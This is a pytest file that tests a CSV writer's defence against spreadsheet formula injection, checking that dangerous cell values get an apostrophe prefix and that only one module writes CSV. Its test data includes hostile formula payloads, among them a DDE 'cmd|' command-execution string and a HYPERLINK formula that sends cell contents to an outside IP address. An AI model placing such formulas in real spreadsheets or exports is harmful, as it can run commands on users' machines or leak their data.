import csv
import re
from pathlib import Path

import pytest

import mien
from mien.render.csv_rows import CsvRows, neutralised


@pytest.mark.parametrize(
    "text",
    [
        *("=cmd|'/C calc'!A0", "=1+1", "+1+cmd|x", "-1+cmd|x", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1", "-", "=", "-ada"),
        *('=HYPERLINK("http://192.0.2.1/?"&A1)', "\uff1d1+1", "\uff20SUM(1)", "-1\n"),
    ],
)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutralised(text) == f"'{text}"
    rows = CsvRows()
    rows.add((1, text, None))
    assert next(csv.reader([*rows.take().splitlines(keepends=True)]))[1] == f"'{text}"


@pytest.mark.parametrize("text", ["", "holiday.jpg", "-1.50", "+3", "-0", "1e-3", "a=b", "happy", "'=1", "2026-11-28"])
def test_everything_else_stays(text: str) -> None:
    assert neutralised(text) == text


def test_numbers_are_not_texts() -> None:
    rows = CsvRows()
    rows.add((-1, -0.5, True, None))
    assert rows.take() == "-1,-0.5,True,\r\n"


def test_lines_are_taken_once() -> None:
    rows = CsvRows()
    rows.add(("a", 'b"c'))
    assert rows.take() == 'a,"b""c"\r\n'
    assert rows.take() == ""
    rows.add(("d",))
    assert rows.take() == "d\r\n"


def test_no_other_module_writes_csv() -> None:
    package = Path(mien.__file__).parent
    imports = re.compile(r"^\s*(import csv|from csv )", re.MULTILINE)
    writers = [path for path in package.rglob("*.py") if imports.search(path.read_text(encoding="utf-8"))]
    assert [path.name for path in writers] == ["csv_rows.py"]
